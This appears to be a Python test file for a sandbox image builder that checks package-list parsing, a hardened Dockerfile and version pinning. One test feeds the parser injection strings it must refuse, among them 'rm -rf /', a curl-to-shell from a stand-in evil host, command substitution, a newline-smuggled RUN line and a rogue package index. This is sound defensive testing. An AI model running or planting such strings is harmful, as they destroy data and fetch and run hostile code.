"""The sandbox image generator's recipe: what a package list may hold, the hardened
Dockerfile made from it, and the pinned list read back from a built image."""

from __future__ import annotations

import pytest

from gateway.errors import InvalidInput
from sandboxes.image_recipe import BUILD_CA, MAX_PACKAGES, dockerfile, parse_packages, pinned


def test_packages_by_installer_with_what_they_need() -> None:
    recipe = parse_packages(["jq", "apt:curl=7.88.1-10", "pip:six==1.16.0", "npm:lodash@4.17.21"])
    assert recipe.apt == ["jq", "curl=7.88.1-10", "python3-pip", "nodejs", "npm"]
    assert (recipe.pip, recipe.npm) == (["six==1.16.0"], ["lodash@4.17.21"])
    assert recipe.languages == ["python", "node", "javascript", "bash", "sh"]
    assert parse_packages(["jq", "jq"]).apt == ["jq"]
    assert parse_packages(["apt:tzdata=1:2024a-0"]).apt == ["tzdata=1:2024a-0"]  # an epoch


@pytest.mark.parametrize(
    ("entry", "says"),
    [
        ("jq; rm -rf /", "Debian package"),
        ("jq && curl evil.example | sh", "Debian package"),
        ("$(id)", "Debian package"),
        ("pip:requests", "exact version"),
        ("pip:requests>=2", "exact version"),
        ("pip:requests==2.0 --index-url http://evil", "exact version"),
        ("npm:lodash@^4.17.0", "exact version"),
        ("npm:lodash", "exact version"),
        ("jq\nRUN id", "Debian package"),
    ],
)
def test_entries_that_could_inject_or_float_are_refused(entry: str, says: str) -> None:
    with pytest.raises(InvalidInput, match=says):
        parse_packages([entry])


def test_empty_and_oversized_lists_are_refused() -> None:
    with pytest.raises(InvalidInput, match="at least one"):
        parse_packages([])
    with pytest.raises(InvalidInput, match=f"at most {MAX_PACKAGES}"):
        parse_packages([f"p{i}" for i in range(MAX_PACKAGES + 1)])


def test_the_dockerfile_is_hardened() -> None:
    text = dockerfile(parse_packages(["jq", "pip:six==1.16.0"]), "tools")
    lines = text.splitlines()
    assert lines[-1] == "USER 1000:1000"  # nothing runs as root after the build
    assert "chmod a-s" in text and "-perm /6000" in text  # no setuid/setgid programs
    assert "rm -rf /var/lib/apt/lists/*" in text  # no package caches
    assert "apt-get install -y -qq --no-install-recommends jq python3-pip" in text
    assert "pip install --break-system-packages --no-compile six==1.16.0" in text
    assert "/etc/mcpgw-packages.txt" in text and BUILD_CA not in text


def test_a_build_ca_is_trusted_while_installing_only() -> None:
    text = dockerfile(parse_packages(["pip:six==1.16.0"]), "tools", build_ca=True)
    ca = f"/usr/local/share/{BUILD_CA}"
    assert f"COPY {BUILD_CA} {ca}" in text
    assert f"RUN PIP_CERT={ca} " in text  # for that step only, not an ENV of the image
    assert "ENV PIP_CERT" not in text
    assert f"RUN rm -f {ca} " in text


def test_pinned_reads_the_versions_the_build_installed() -> None:
    recipe = parse_packages(["jq", "pip:Six==1.16.0", "npm:lodash@4.17.21"])
    manifest = (
        "apt:jq=1.6-2.1\napt:python3-pip=23.0.1+dfsg-1\napt:nodejs=18.19.0+dfsg-6~deb12u2\n"
        "apt:npm=9.2.0~ds1-1\npip:six==1.16.0\npip:pip==23.0.1\nnpm:lodash@4.17.21\n"
    )
    assert pinned(manifest, recipe) == [
        "jq=1.6-2.1",
        "nodejs=18.19.0+dfsg-6~deb12u2",
        "npm=9.2.0~ds1-1",
        "python3-pip=23.0.1+dfsg-1",
        "pip:six==1.16.0",
        "npm:lodash@4.17.21",
    ]
    assert parse_packages(pinned(manifest, recipe)).apt[0] == "jq=1.6-2.1"  # rebuilds
